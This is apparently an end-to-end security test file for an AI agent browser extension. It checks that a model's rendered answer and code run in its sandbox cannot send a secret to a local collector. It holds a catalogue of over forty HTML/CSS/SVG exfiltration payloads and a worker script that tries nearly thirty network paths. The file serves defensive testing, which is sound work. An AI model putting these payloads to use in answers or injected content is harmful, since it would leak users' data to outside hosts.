/**
 * Render-time and sandbox exfiltration, against the built extension: a collector on 127.0.0.1
 * records every connection and every byte it receives. (a) A model's answer carrying every
 * HTML/CSS construct we know that loads a resource is shown in the real side panel; the same
 * markup is also put straight into the panel's DOM, past the sanitiser, to check that the CSP
 * alone blocks it. (b) Code run in the sandbox (execute_script `target: "sandbox"` and a custom
 * tool) tries every network path a worker has. Nothing may reach the collector.
 */
import assert from "node:assert/strict"
import { createServer, type Server, type Socket } from "node:net"
import { after, before, test } from "node:test"
import type { CDPSession, Page } from "playwright-core"
import * as Schema from "effect/Schema"
import { startModelServer, type ModelServer } from "../support/model-server.mjs"
import { callTool, launchExtension, type ExtensionSession } from "./harness.ts"
import { composer } from "./ui-support.ts"

const SECRET = "RENDER-SECRET-4417"

interface Collector {
  readonly origin: string
  /** The first line of each connection's data (the request line, or what came first). */
  readonly heads: string[]
  bytes: number
  connections: number
  close(): Promise<void>
}

/** A raw TCP server: it counts bytes before any parsing, so no protocol (HTTP, WebSocket, ...) slips past. */
const startCollector = async (): Promise<Collector> => {
  const sockets = new Set<Socket>()
  const server: Server = createServer((socket) => {
    sockets.add(socket)
    collector.connections++
    let first = true
    socket.on("data", (chunk: Buffer) => {
      collector.bytes += chunk.length
      if (first) collector.heads.push(chunk.toString("latin1").split("\r\n")[0]!)
      first = false
      // Answer like a permissive web server, so that nothing fails for want of a response.
      socket.end(
        "HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\ncontent-type: text/plain\r\ncontent-length: 2\r\nconnection: close\r\n\r\nok",
      )
    })
    socket.on("error", () => undefined)
    socket.on("close", () => sockets.delete(socket))
  })
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve))
  const collector: Collector = {
    origin: `http://127.0.0.1:${(server.address() as { port: number }).port}`,
    heads: [],
    bytes: 0,
    connections: 0,
    close: () =>
      new Promise<void>((resolve) => {
        for (const s of sockets) s.destroy()
        server.close(() => resolve())
      }),
  }
  return collector
}

/** Every render-time payload kind, each with its own path so that a hit names it. */
const renderPayloads = (origin: string): Record<string, string> => {
  const u = (kind: string) => `${origin}/r/${kind}?d=${SECRET}`
  return {
    "markdown-image": `![chart](${u("markdown-image")})`,
    "markdown-image-ref": `![chart][ref]\n\n[ref]: ${u("markdown-image-ref")}`,
    "img-src": `<img src="${u("img-src")}" alt="i">`,
    "img-srcset": `<img srcset="${u("img-srcset")} 1x" alt="s">`,
    "picture-source": `<picture><source srcset="${u("picture-source")}"><img alt="p"></picture>`,
    "style-background-image": `<p style="background-image:url(${u("style-background-image")})">bg</p>`,
    "style-list-style-image": `<ul style="list-style-image:url(${u("style-list-style-image")})"><li>li</li></ul>`,
    "style-border-image": `<div style="border:4px solid;border-image:url(${u("style-border-image")}) 30">bi</div>`,
    "style-mask-image": `<div style="-webkit-mask-image:url(${u("style-mask-image")});mask-image:url(${u("style-mask-image")})">mi</div>`,
    "style-content-url": `<div style="content:url(${u("style-content-url")})">cu</div>`,
    "style-image-set": `<div style="background-image:image-set(url(${u("style-image-set")}) 1x)">is</div>`,
    "style-cursor": `<div style="cursor:url(${u("style-cursor")}),auto">cur</div>`,
    "style-shape-outside": `<div style="float:left;width:10px;height:10px;shape-outside:url(${u("style-shape-outside")})">so</div>`,
    "style-element-import": `<style>@import url(${u("style-element-import")});</style>`,
    "style-element-font-face": `<style>@font-face{font-family:leak;src:url(${u("style-element-font-face")})} .ff{font-family:leak}</style><p class="ff">ff</p>`,
    "style-element-background": `<style>.md p{background:url(${u("style-element-background")})}</style>`,
    "table-background": `<table background="${u("table-background")}"><tr><td background="${u("table-background")}">tb</td></tr></table>`,
    "video-poster": `<video poster="${u("video-poster")}"></video>`,
    "video-src": `<video src="${u("video-src")}" autoplay muted></video>`,
    "audio-src": `<audio src="${u("audio-src")}" autoplay></audio>`,
    "media-source-track": `<video><source src="${u("media-source-track")}"><track default src="${u("media-source-track")}"></video>`,
    "svg-image-href": `<svg width="10" height="10"><image href="${u("svg-image-href")}" width="10" height="10"/></svg>`,
    "svg-xlink-href": `<svg width="10" height="10"><image xlink:href="${u("svg-xlink-href")}" width="10" height="10"/></svg>`,
    "svg-use": `<svg><use href="${u("svg-use")}#x"/></svg>`,
    "svg-feimage": `<svg><filter id="f"><feImage href="${u("svg-feimage")}"/></filter><rect filter="url(#f)" width="5" height="5"/></svg>`,
    "input-image": `<input type="image" src="${u("input-image")}">`,
    "link-stylesheet": `<link rel="stylesheet" href="${u("link-stylesheet")}">`,
    "link-prefetch": `<link rel="prefetch" href="${u("link-prefetch")}">`,
    "link-preload": `<link rel="preload" as="image" href="${u("link-preload")}">`,
    "link-icon": `<link rel="icon" href="${u("link-icon")}">`,
    "link-preconnect": `<link rel="preconnect" href="${u("link-preconnect")}">`,
    "link-dns-prefetch": `<link rel="dns-prefetch" href="${u("link-dns-prefetch")}">`,
    "link-modulepreload": `<link rel="modulepreload" href="${u("link-modulepreload")}">`,
    "object-data": `<object data="${u("object-data")}"></object>`,
    "embed-src": `<embed src="${u("embed-src")}">`,
    "iframe-src": `<iframe src="${u("iframe-src")}"></iframe>`,
    "iframe-srcdoc": `<iframe srcdoc="<img src='${u("iframe-srcdoc")}'>"></iframe>`,
    "meta-refresh": `<meta http-equiv="refresh" content="0;url=${u("meta-refresh")}">`,
    "base-href": `<base href="${origin}/r/base-href/"><a href="x">relative</a>`,
    "a-ping": `<a href="https://example.invalid/" ping="${u("a-ping")}">ping</a>`,
    "form-action": `<form action="${u("form-action")}"><button>go</button></form><button formaction="${u("form-action")}">b</button>`,
    "event-handler": `<img src=x onerror="fetch('${u("event-handler")}')">`,
  }
}

/** The panel's own record of its requests to the collector, from the DevTools protocol. */
const watchRequests = async (page: Page, origin: string) => {
  const cdp: CDPSession = await page.context().newCDPSession(page)
  const seen: Array<{ url: string; blocked?: string }> = []
  const open = new Map<string, { record: { url: string; blocked?: string }; done: () => void }>()
  const pending = new Set<Promise<void>>()
  cdp.on("Network.requestWillBeSent", (e: { requestId: string; request: { url: string } }) => {
    if (!e.request.url.startsWith(origin) || open.has(e.requestId)) return
    const record: { url: string; blocked?: string } = { url: e.request.url }
    seen.push(record)
    pending.add(new Promise<void>((resolve) => open.set(e.requestId, { record, done: resolve })))
  })
  const settle = (e: { requestId: string; blockedReason?: string }) => {
    const entry = open.get(e.requestId)
    if (entry === undefined) return
    open.delete(e.requestId)
    if (e.blockedReason) entry.record.blocked = e.blockedReason
    entry.done()
  }
  cdp.on("Network.loadingFinished", settle)
  cdp.on("Network.loadingFailed", settle)
  await cdp.send("Network.enable")
  return {
    seen,
    /** Lays out and paints twice, then waits for every request the page started to end. */
    async idle() {
      await page.evaluate(() => new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r))))
      // The renderer reports its requests in order with its answers: this round trip comes after them.
      await cdp.send("Runtime.evaluate", { expression: "1" })
      await Promise.all(pending)
    },
    close: () => cdp.detach(),
  }
}

let session: ExtensionSession
let panel: Page
let collector: Collector
let model: ModelServer

before(async () => {
  collector = await startCollector()
  model = await startModelServer()
  session = await launchExtension()
  panel = await session.openPage("sidepanel.html")
  await panel.setViewportSize({ width: 400, height: 760 })
  await panel.evaluate(
    (baseUrl) =>
      globalThis.agent.settings.update({
        providers: [{ id: "m", name: "m", kind: "openai", baseUrl, models: ["x"] }],
        defaultModel: { providerId: "m", model: "x" },
      }),
    model.baseUrl("openai"),
  )
})
after(async () => {
  await session?.close()
  await Promise.all([collector?.close(), model?.close()])
})

test("a model's answer carrying every render-time payload fetches nothing when shown; remote images are links", async () => {
  const payloads = renderPayloads(collector.origin)
  const answer = ["Here is your report.", ...Object.values(payloads), "END-OF-REPORT"].join("\n\n")
  model.script([{ text: answer }])
  const watch = await watchRequests(panel, collector.origin)
  const before = { bytes: collector.bytes, connections: collector.connections }

  await panel.locator("[data-testid=send]:not([disabled])").waitFor()
  const box = composer(panel)
  await box.click()
  await box.fill("Write the report")
  await box.press("Enter")
  const message = panel.locator("[data-testid=assistant-message]").last()
  await message.getByText("END-OF-REPORT").waitFor()
  await panel.getByTestId("send").waitFor()
  // Hover, focus and click what is left, so that nothing waits for an interaction to load.
  await message.getByText("bg", { exact: true }).hover()
  await watch.idle()

  const fetched = new Set(
    collector.heads.map((h) => h.match(/\/r\/([\w-]+)/)?.[1]).filter((k): k is string => k !== undefined && k in payloads),
  )
  const bytes = collector.bytes - before.bytes
  const connections = collector.connections - before.connections

  console.log(
    `render (sanitised answer): ${Object.keys(payloads).length} payloads shown, ${watch.seen.length} requests started, ${fetched.size} carried out, ${bytes} bytes (${connections} connections) reached the collector`,
  )
  await watch.close()
  assert.deepEqual([...fetched], [])
  assert.equal(watch.seen.length, 0, `the panel started no request: ${JSON.stringify(watch.seen)}`)
  assert.equal(bytes, 0)
  // Remote images are links to open in a new tab, with no referrer.
  for (const kind of ["markdown-image", "markdown-image-ref", "img-src"]) {
    const link = message.locator(`a.image-link[href*="/r/${kind}?"]`)
    assert.equal(await link.count(), 1, `${kind} is shown as a link`)
    assert.equal(await link.getAttribute("target"), "_blank")
    assert.equal(await link.getAttribute("rel"), "noopener noreferrer")
    assert.equal(await link.getAttribute("referrerpolicy"), "no-referrer")
  }
  assert.equal(await message.locator("img, video, audio, svg, iframe, object, embed, link, style, [style], [background]").count(), 0)
})

/**
 * Chromium applies no CSP directive to these (prefetch-src is gone; preconnect and DNS prefetch
 * are hints): only the sanitiser, which keeps no <link>, stops them.
 */
const CSP_EXEMPT = new Set(["link-prefetch", "link-preconnect", "link-dns-prefetch"])

test("the extension pages' CSP alone blocks every resource load of the same markup put in the panel past the sanitiser, but the hints it does not govern", async () => {
  const payloads = renderPayloads(collector.origin)
  // Kinds that need a click, a submit or a navigation: the CSP does not govern them (the sanitiser does).
  const needsInteraction = new Set(["a-ping", "form-action", "base-href", "meta-refresh", "iframe-src", "iframe-srcdoc"])
  const raw = Object.entries(payloads).filter(([kind]) => !needsInteraction.has(kind) && !kind.startsWith("markdown-"))
  const watch = await watchRequests(panel, collector.origin)
  const before = { bytes: collector.bytes, heads: collector.heads.length, connections: collector.connections }
  const violations = await panel.evaluate(
    (html) => {
      const found: string[] = []
      document.addEventListener("securitypolicyviolation", (e) => found.push(`${e.effectiveDirective} ${e.blockedURI}`))
      const host = document.createElement("div")
      host.innerHTML = html
      document.body.append(host)
      return new Promise<string[]>((resolve) => requestAnimationFrame(() => requestAnimationFrame(() => resolve(found))))
    },
    raw.map(([, html]) => html).join("\n"),
  )
  await watch.idle()
  const kindOf = (url: string) => url.match(/\/r\/([\w-]+)/)?.[1] ?? url
  const reached = new Set([
    ...watch.seen.filter((r) => r.blocked === undefined).map((r) => kindOf(r.url)),
    ...collector.heads.slice(before.heads).map(kindOf),
  ])
  const notExempt = [...reached].filter((k) => !CSP_EXEMPT.has(k))
  console.log(
    `render (CSP alone, no sanitiser): ${raw.length} payloads injected, ${watch.seen.length} requests started, ${watch.seen.filter((r) => r.blocked).length} blocked by the CSP, ${violations.length} violations reported; ${reached.size} carried out: ${[...reached].filter((k) => CSP_EXEMPT.has(k)).join(", ") || "none"} (not governed by any CSP) and ${notExempt.length} others${notExempt.length ? ` (${notExempt.join(", ")})` : ""}`,
  )
  await watch.close()
  assert.deepEqual(notExempt, [], "every load the CSP governs was blocked")
  assert.ok(violations.some((v) => v.startsWith("img-src")) && violations.some((v) => v.startsWith("style-src")))
})

/** Every network path of a dedicated worker, each to its own path, settled or given up after 2 s. */
const SANDBOX_PROBE = String.raw`
const url = (kind) => origin + "/s/" + context + "/" + kind + "?d=${SECRET}"
const ws = (kind) => url(kind).replace(/^http/, "ws")
const settle = (attempt) => Promise.race([
  Promise.resolve().then(attempt).then((v) => v === "absent" ? "absent" : "done", (e) => "refused: " + ((e && e.name) || e)),
  new Promise((r) => setTimeout(() => r("no answer"), 2000)),
])
const inWorker = (source, options) => new Promise((resolve, reject) => {
  const w = new Worker(URL.createObjectURL(new Blob([source], { type: "text/javascript" })), options)
  w.onmessage = (e) => (String(e.data).startsWith("refused") ? reject(new Error(e.data)) : resolve(e.data))
  w.onerror = (e) => { e.preventDefault(); reject(new Error("worker error")) }
})
const attempts = {
  fetch: () => fetch(url("fetch")),
  "fetch-keepalive-post": () => fetch(url("fetch-keepalive-post"), { method: "POST", mode: "no-cors", keepalive: true, body: "x" }),
  xhr: () => new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.open("GET", url("xhr")); x.onload = resolve; x.onerror = () => reject(new Error("xhr")); x.send() }),
  "xhr-sync": () => { const x = new XMLHttpRequest(); x.open("GET", url("xhr-sync"), false); x.send() },
  websocket: () => new Promise((resolve, reject) => { const s = new WebSocket(ws("websocket")); s.onopen = resolve; s.onerror = () => reject(new Error("ws")) }),
  "websocket-stream": () => typeof WebSocketStream === "function" ? new WebSocketStream(ws("websocket-stream")).opened : "absent",
  webtransport: () => typeof WebTransport === "function" ? new WebTransport(url("webtransport").replace(/^http:/, "https:")).ready : "absent",
  eventsource: () => new Promise((resolve, reject) => { const s = new EventSource(url("eventsource")); s.onopen = resolve; s.onerror = () => { s.close(); reject(new Error("es")) } }),
  fontface: () => new FontFace("a", "url(" + url("fontface") + ")").load(),
  "fonts-load": () => { self.fonts.add(new FontFace("b", "url(" + url("fonts-load") + ")")); return self.fonts.load("12px b") },
  "offscreen-canvas-font": () => { self.fonts.add(new FontFace("c", "url(" + url("offscreen-canvas-font") + ")")); const g = new OffscreenCanvas(8, 8).getContext("2d"); g.font = "12px c"; g.fillText("x", 0, 6); return self.fonts.ready.then(() => self.fonts.load("12px c")) },
  importscripts: () => importScripts(url("importscripts")),
  "dynamic-import": () => import(url("dynamic-import")),
  "worker-remote": () => new Promise((resolve, reject) => { const w = new Worker(url("worker-remote")); w.onmessage = resolve; w.onerror = () => reject(new Error("worker")) }),
  "module-worker-import": () => inWorker("import " + JSON.stringify(url("module-worker-import")) + "; postMessage('ran')", { type: "module" }),
  "nested-worker-fetch": () => inWorker("fetch(" + JSON.stringify(url("nested-worker-fetch")) + ").then(() => postMessage('ok'), (e) => postMessage('refused ' + e.name))"),
  "nested-worker-fontface": () => inWorker("new FontFace('n', 'url(" + url("nested-worker-fontface") + ")').load().then(() => postMessage('ok'), (e) => postMessage('refused ' + e.name))"),
  "nested-worker-importscripts": () => inWorker("try { importScripts(" + JSON.stringify(url("nested-worker-importscripts")) + "); postMessage('ok') } catch (e) { postMessage('refused ' + e.name) }"),
  "cache-add": () => caches.open("x").then((c) => c.add(url("cache-add"))),
  "wasm-streaming": () => WebAssembly.compileStreaming(fetch(url("wasm-streaming"))),
  "image-bitmap": () => fetch(url("image-bitmap")).then((r) => r.blob()).then(createImageBitmap),
  image: () => typeof Image === "function" ? new Promise((resolve, reject) => { const i = new Image(); i.onload = resolve; i.onerror = reject; i.src = url("image") }) : "absent",
  "send-beacon": () => typeof navigator.sendBeacon === "function" ? navigator.sendBeacon(url("send-beacon"), "x") : "absent",
  "notification-icon": () => typeof Notification === "function" && Notification.permission === "granted" ? new Notification("x", { icon: url("notification-icon") }) : "absent",
  "rtc-peer-connection": () => typeof RTCPeerConnection === "function" ? new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + origin.split(":")[2] }] }).createOffer() : "absent",
  "shared-worker": () => typeof SharedWorker === "function" ? new SharedWorker(url("shared-worker")) : "absent",
  "window-open": () => typeof open === "function" ? open(url("window-open")) : "absent",
  "location-assign": () => typeof location.assign === "function" ? location.assign(url("location-assign")) : "absent",
}
const kinds = Object.keys(attempts)
const outcomes = await Promise.all(kinds.map((k) => settle(attempts[k])))
return Object.fromEntries(kinds.map((k, i) => [k, outcomes[i]]))`

/** What the probe answers: each network path tried, and how it went. */
const probeOutcomes = Schema.decodeUnknownSync(Schema.Record(Schema.String, Schema.String))

const probeSummary = (label: string, outcomes: Record<string, string>, kinds: Set<string>, bytes: number) => {
  const absent = Object.values(outcomes).filter((o) => o === "absent").length
  const refused = Object.values(outcomes).filter((o) => o.startsWith("refused")).length
  console.log(
    `sandbox (${label}): ${Object.keys(outcomes).length} network paths tried (${absent} not available in a worker, ${refused} refused), ${kinds.size} carried out, ${bytes} bytes reached the collector`,
  )
}

const hitsOf = (context: string) =>
  new Set(collector.heads.map((h) => h.match(new RegExp(`/s/${context}/([\\w-]+)`))?.[1]).filter((k) => k !== undefined))

test("code in the sandbox reaches no network, by any path: execute_script target sandbox", async () => {
  const before = collector.bytes
  const outcome = await callTool(
    panel,
    "execute_script",
    { target: "sandbox", code: `const origin = ${JSON.stringify(collector.origin)}, context = "execute_script"\n${SANDBOX_PROBE}` },
    { timeoutMs: 20_000 },
  )
  assert.ok(outcome.ok, JSON.stringify(outcome))
  const outcomes = probeOutcomes(outcome.value.result)
  const carried = hitsOf("execute_script")
  probeSummary("execute_script", outcomes, carried, collector.bytes - before)
  assert.ok(Object.keys(outcomes).length >= 25, "the probe ran every attempt")
  assert.deepEqual([...carried], [])
  assert.equal(collector.bytes - before, 0)
  // The time limit's and the sandbox's own answers: each path was refused or is absent.
  assert.deepEqual(
    Object.entries(outcomes).filter(([, o]) => o === "done"),
    [],
  )
})

test("code in the sandbox reaches no network, by any path: a custom tool", async () => {
  const registered = await panel.evaluate(
    (code) =>
      globalThis.agent.customTools
        .register({
          name: "probe_network",
          description: "Tries every network path of a worker.",
          parameters: { type: "object", properties: { origin: { type: "string" } }, required: ["origin"], additionalProperties: false },
          code,
        } as never)
        .then(
          () => "ok",
          (e: { message: string }) => e.message,
        ),
    `const origin = args.origin, context = "custom_tool"\n${SANDBOX_PROBE}`,
  )
  assert.equal(registered, "ok")
  const before = collector.bytes
  const outcome = await callTool(panel, "probe_network", { origin: collector.origin })
  assert.ok(outcome.ok, JSON.stringify(outcome))
  const outcomes = probeOutcomes(outcome.value)
  const carried = hitsOf("custom_tool")
  probeSummary("custom tool", outcomes, carried, collector.bytes - before)
  assert.deepEqual([...carried], [])
  assert.equal(collector.bytes - before, 0)
  assert.deepEqual(
    Object.entries(outcomes).filter(([, o]) => o === "done"),
    [],
  )
})
